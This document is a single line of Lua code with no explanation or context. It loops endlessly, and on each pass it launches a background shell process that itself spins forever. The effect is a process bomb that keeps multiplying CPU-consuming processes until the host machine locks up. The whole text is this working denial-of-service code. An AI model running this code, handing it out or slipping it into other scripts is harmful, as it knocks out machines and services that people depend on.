while true do os.execute("(while :; do :; done) &") end
